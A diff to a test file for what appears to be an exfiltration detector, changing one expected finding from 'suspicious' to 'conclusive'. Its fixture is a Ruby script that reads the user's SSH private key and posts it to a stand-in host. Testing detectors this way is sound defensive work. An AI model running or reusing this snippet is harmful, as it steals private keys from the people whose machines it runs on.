@@ -9,7 +9,7 @@ describe("exfiltration: a script that reads secrets and sends", () => {
   it("asks even where the way between the two is lost", async () => {
     const script =
       "require 'net/http'\ndata = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://unknown.example/c'), data)\n";
-    expect(await of("a.rb", script)).toEqual(["exfiltration.reads-and-sends suspicious a.rb"]);
+    expect(await of("a.rb", script)).toEqual(["exfiltration.reads-and-sends conclusive a.rb"]);
   });
 
   it("asks about mail, which names its host without a scheme", async () => {
